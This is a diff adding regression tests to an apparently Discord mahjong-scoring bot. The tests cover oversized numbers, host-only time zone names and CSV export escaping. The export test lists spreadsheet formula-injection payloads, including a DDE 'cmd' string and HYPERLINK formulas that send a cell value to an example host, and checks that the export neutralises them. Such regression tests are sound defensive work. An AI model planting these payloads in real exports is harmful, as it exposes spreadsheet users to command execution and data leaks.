@@ -215,7 +215,7 @@ async def test_a_final_board_discord_fails_to_take_is_posted_by_the_scheduler(h:
     await write_hands(h.bot.store, GUILD_ID, [now, now], 9)
     fault = h.fake.fail(r"^/webhooks/\d+/[^/]+$", method="POST", status=503, times=5)
     r = await admin(h, "season start", title="Summer")
-    for _ in range(100):  # the retries sleep, which settle() counts as idle
+    for _ in range(1500):  # the retries sleep, which settle() counts as idle (a bound for a hang only)
         await asyncio.sleep(0.02)
         await h.settle()
         if fault.hits == 5 and not any(t for t in asyncio.all_tasks() if "post_final_board" in repr(t.get_coro())):
@@ -773,3 +773,106 @@ async def test_a_restart_never_posts_a_week_twice(h: Harness):
         assert len(new.channel(report_ch)) == 1
     finally:
         await new.close()
+
+
+# ---------------------------------------------------------------------------------------------- hostile input
+
+
+@pytest.mark.parametrize("hand", [2**63, 10**30, 2**63 - 1, -1])
+@pytest.mark.parametrize(("locale", "word"), [("en-US", "no hand"), ("zh-CN", "没有"), ("zh-TW", "沒有")])
+async def test_voiding_a_hand_past_the_databases_integers(h: Harness, caplog, hand, locale, word):
+    """``/correct void hand:`` 2^63 or 10^30 (a raw payload: Discord's client keeps integers smaller) raised an
+    OverflowError in the driver: the generic apology and a traceback. It is a hand that does not exist."""
+    before = dump(h)
+    caplog.clear()
+    r = await admin(h, "correct void", hand=hand, reason="x", locale=locale)
+    assert r.reply.ephemeral and word in r.reply.content, r.reply.content
+    assert not [x for x in caplog.records if x.levelno >= 40], [x.getMessage() for x in caplog.records]
+    assert dump(h) == before
+
+
+async def test_numbers_typed_in_pickers_and_season_options_past_the_database(h: Harness, caplog):
+    """A hand number or a season number too large for the database (or a digit that is not ASCII) typed in a
+    picker or a season option: no hand / no such season, never the generic apology."""
+    await admin(h, "season start", title="Spring")
+    caplog.clear()
+    for typed in ("9" * 30, str(2**63), "²", "#" + "1" * 25):
+        assert await autocomplete(h, "correct void", "hand", typed, permissions=ADMIN_PERMISSIONS, hand=1,
+                                  reason="x") == []
+    before = dump(h)
+    for season in ("9" * 30, str(2**63), "²"):
+        for cmd in ("leaderboard", "stats"):
+            r = await h.slash(cmd, season=season)
+            assert r.reply.ephemeral and "no season" in r.reply.content, (cmd, season, r.reply.content)
+        r = await admin(h, "export", season=season)
+        assert r.reply.ephemeral and "no season" in r.reply.content and r.reply.attachments == []
+    assert not [x for x in caplog.records if x.levelno >= 40], [x.getMessage() for x in caplog.records]
+    assert dump(h) == before
+
+
+@pytest.mark.parametrize("name", ["posix/Asia/Shanghai", "right/UTC", "posixrules", "Asia/../Asia/Shanghai"])
+async def test_a_host_only_time_zone_name_is_refused(h: Harness, name):
+    """Names that only some hosts have as files (``posix/``, ``right/``, ``posixrules``) were accepted, and a host
+    with only the tzdata package then failed /leaderboard and /history for the whole server."""
+    before = dump(h)
+    r = await admin(h, "settings", timezone=name)
+    assert r.reply.ephemeral and "not a time zone" in r.reply.content and r.reply.embeds == []
+    assert dump(h) == before
+
+
+async def test_a_stored_zone_this_host_does_not_know_falls_back_with_one_warning(h: Harness, caplog):
+    """A zone stored earlier (another host, an older version) that this host does not know: the server's pages keep
+    working in the default zone, and the log says so once, not at every request."""
+    import sqlite3
+
+    await admin(h, "settings", timezone="Europe/Paris")
+    stored = f"posix/Nowhere/{snowflake()}"
+    db = sqlite3.connect(h.bot.config.db_path)
+    db.execute("UPDATE group_settings SET timezone = ? WHERE guild_id = ?", (stored, GUILD_ID))
+    db.commit()
+    db.close()
+    caplog.clear()
+    for _ in range(2):
+        r = await h.slash("leaderboard", variant="hefei", period="all")
+        assert "went wrong" not in r.reply.content and "子" in r.reply.content, r.reply.content
+        r = await h.slash("history", user=A)
+        assert r.reply.ephemeral and "went wrong" not in r.reply.content and "`" in r.reply.content
+        r = await h.slash("stats", player=B)
+        assert "went wrong" not in r.reply.content
+    warned = [x for x in caplog.records if stored in x.getMessage()]
+    assert [x.levelname for x in warned] == ["WARNING"], [x.getMessage() for x in warned]
+    assert not [x for x in caplog.records if x.levelno >= 40], [x.getMessage() for x in caplog.records]
+    r = await admin(h, "settings", timezone="Asia/Tokyo")  # and the zone can be set again
+    assert "Asia/Tokyo" in r.reply.content
+
+
+HOSTILE_NAMES = ["=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", '@HYPERLINK("http://x.example","click")', "\t=1+1",
+                 "\r=1+1"]
+
+
+async def test_the_export_neutralises_spreadsheet_formulas(h: Harness):
+    """Display names and reasons starting with = + - @ (or a tab, a carriage return) were written raw, and Excel
+    and LibreOffice run them as formulas: every such text cell is written after a single quote (OWASP); the numbers
+    stay numbers, a negative amount too."""
+    players = [snowflake() for _ in HOSTILE_NAMES]
+    seats = [SeatSpec.human(p, n) for p, n in zip(players, HOSTILE_NAMES, strict=True)]
+    [hand] = await write_hands(h.bot.store, GUILD_ID, [datetime.now(UTC) - timedelta(hours=1)], 5, seats=seats[:4])
+    await write_hands(h.bot.store, GUILD_ID, [datetime.now(UTC) - timedelta(hours=2)], 6, seats=[*seats[4:], *seats[:2]])
+    reason = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+    await admin(h, "correct void", hand=hand, reason=reason)
+    await admin(h, "correct adjust", payer=B, payee=C, amount=3, reason="-1+1 side bet", variant="hefei")
+    r = await admin(h, "export")
+    [att] = r.reply.attachments
+    lines = list(csv.reader(io.StringIO(r.reply.files[att.filename].decode("utf-8-sig"), newline="")))
+    body = [dict(zip(CSV_COLUMNS, line, strict=True)) for line in lines[1:]]
+    names = {d["player_name"] for d in body if d["player_id"] in {str(p) for p in players}}
+    assert names == {"'" + n for n in HOSTILE_NAMES}
+    assert {d["reason"] for d in body if d["kind"] == "void"} == {"'" + reason}
+    assert {d["reason"] for d in body if d["kind"] == "adjust"} == {"'-1+1 side bet"}
+    for d in body:  # no text cell a spreadsheet would run
+        for k, v in d.items():
+            if k in ("amount", "stack_amount", "jiao_amount", "hand_value"):
+                assert v.lstrip("-").isdigit(), (k, v)  # numbers stay numbers
+            else:
+                assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (k, v)
+    assert any(d["amount"].startswith("-") for d in body)  # a negative amount is written as a number
